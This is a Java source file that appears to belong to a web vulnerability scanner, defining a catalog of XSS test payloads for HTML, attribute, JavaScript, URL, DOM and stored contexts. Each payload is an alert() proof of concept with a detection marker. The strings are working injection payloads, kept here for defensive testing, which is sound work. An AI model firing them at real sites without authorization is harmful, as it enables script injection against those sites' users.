package webscan.payload;

import webscan.model.DetectionStrategy;
import webscan.model.Severity;

import java.util.List;

/**
 * Каталог полезных нагрузок XSS, размеченных по контексту внедрения.
 * Каждая нагрузка несет плейсхолдер маркера внутри исполняемой конструкции
 * (тег script или обработчик события), по которому ее находит детектор.
 */
public final class XssPayloads {
    public static final String CWE_ID = "CWE-79";

    private XssPayloads() {
    }

    public static PayloadCatalog defaultCatalog() {
        return new PayloadCatalog(List.of(
            // Reflected, HTML context
            reflected("Basic Script Alert", "<script>alert('{marker}')</script>", InjectionContext.HTML,
                "Script tag injection"),
            reflected("Image onerror", "<img src=x onerror=alert('{marker}')>", InjectionContext.HTML,
                "Image tag with onerror handler"),
            reflected("SVG onload", "<svg onload=alert('{marker}')>", InjectionContext.HTML,
                "SVG element with onload handler"),
            reflected("Compact SVG onload", "<svg/onload=alert('{marker}')>", InjectionContext.HTML,
                "Whitespace-free SVG onload injection"),

            // Reflected, attribute context
            reflected("Attribute onmouseover", "' onmouseover=alert('{marker}') '", InjectionContext.ATTRIBUTE,
                "Single-quoted attribute escape with event handler"),
            reflected("Attribute onfocus", "\" autofocus onfocus=alert('{marker}') \"", InjectionContext.ATTRIBUTE,
                "Double-quoted attribute escape with autofocus handler"),
            reflected("Attribute Tag Break", "\"><script>alert('{marker}')</script>", InjectionContext.ATTRIBUTE,
                "Attribute and tag break followed by script"),

            // Reflected, JavaScript context
            reflected("JavaScript String Escape", "';alert('{marker}');//", InjectionContext.JAVASCRIPT,
                "Single-quoted JavaScript string escape"),
            reflected("JavaScript Double Quote Escape", "\";alert('{marker}');//", InjectionContext.JAVASCRIPT,
                "Double-quoted JavaScript string escape"),
            reflected("Script Block Break", "</script><script>alert('{marker}')</script>", InjectionContext.JAVASCRIPT,
                "Closes the current script block and opens a new one"),

            // Reflected, URL context
            Payload.builder()
                .name("JavaScript Protocol").value("javascript:alert('{marker}')")
                .strategy(DetectionStrategy.REFLECTED).risk(Severity.MEDIUM)
                .context(InjectionContext.URL).cweId(CWE_ID)
                .description("javascript: URL in link or source attribute")
                .build(),

            // DOM-based
            dom("DOM Script Injection", "<script>alert('{marker}')</script>", "Script injection through a DOM sink"),
            dom("DOM Image onerror", "<img src=x onerror=alert('{marker}')>", "Image onerror through a DOM sink"),

            // Stored
            stored("Stored Script Alert", "<script>alert('{marker}')</script>", "Persisted script tag"),
            stored("Stored Image onerror", "<img src=x onerror=alert('{marker}')>", "Persisted image onerror handler")
        ));
    }

    private static Payload reflected(String name, String value, InjectionContext context, String description) {
        return Payload.builder()
            .name(name).value(value).strategy(DetectionStrategy.REFLECTED)
            .risk(Severity.HIGH).context(context).description(description).cweId(CWE_ID)
            .build();
    }

    private static Payload dom(String name, String value, String description) {
        return Payload.builder()
            .name(name).value(value).strategy(DetectionStrategy.DOM)
            .risk(Severity.HIGH).context(InjectionContext.HTML).description(description).cweId(CWE_ID)
            .build();
    }

    private static Payload stored(String name, String value, String description) {
        return Payload.builder()
            .name(name).value(value).strategy(DetectionStrategy.STORED)
            .risk(Severity.CRITICAL).context(InjectionContext.HTML).description(description).cweId(CWE_ID)
            .build();
    }
}
